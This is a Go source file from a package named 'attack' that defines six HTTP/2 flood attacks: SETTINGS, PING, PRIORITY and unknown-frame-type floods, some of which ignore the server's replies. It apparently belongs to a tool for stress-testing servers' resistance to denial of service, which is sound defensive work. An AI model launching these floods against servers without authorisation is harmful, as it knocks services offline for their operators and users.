package attack

import "golang.org/x/net/http2"

// floodAttacks are frames that cost little to send, and that the server must look at or answer.
func floodAttacks() []Attack {
	unread := h2options{unread: true}
	ping := func(c *h2conn, _ int) error { return c.WritePing(false, [8]byte{}) }
	settings := func(c *h2conn, _ int) error { return c.WriteSettings() }
	return []Attack{
		{Name: "SETTINGS flood", Unit: "frames", Connections: 4, Planned: 100_000, script: flood(h2options{}, nil, settings)},
		{Name: "SETTINGS flood, answers not read", Unit: "frames", Connections: 4, Planned: 400_000, Silent: true,
			script: flood(unread, nil, settings)},
		{Name: "PING flood", Unit: "frames", Connections: 4, Planned: 100_000, script: flood(h2options{}, nil, ping)},
		{Name: "PING flood, answers not read", Unit: "frames", Connections: 4, Planned: 400_000, Silent: true,
			script: flood(unread, nil, ping)},
		{Name: "PRIORITY flood", Unit: "frames", Connections: 4, Planned: 200_000,
			script: flood(h2options{}, nil, func(c *h2conn, i int) error {
				return c.WritePriority(uint32(2*i+3), http2.PriorityParam{StreamDep: 1, Weight: 15})
			})},
		{Name: "flood of frames of unknown type", Unit: "frames", Connections: 4, Planned: 200_000,
			script: flood(h2options{}, nil, func(c *h2conn, _ int) error {
				return c.WriteRawFrame(0xbe, 0, 0, nil)
			})},
	}
}
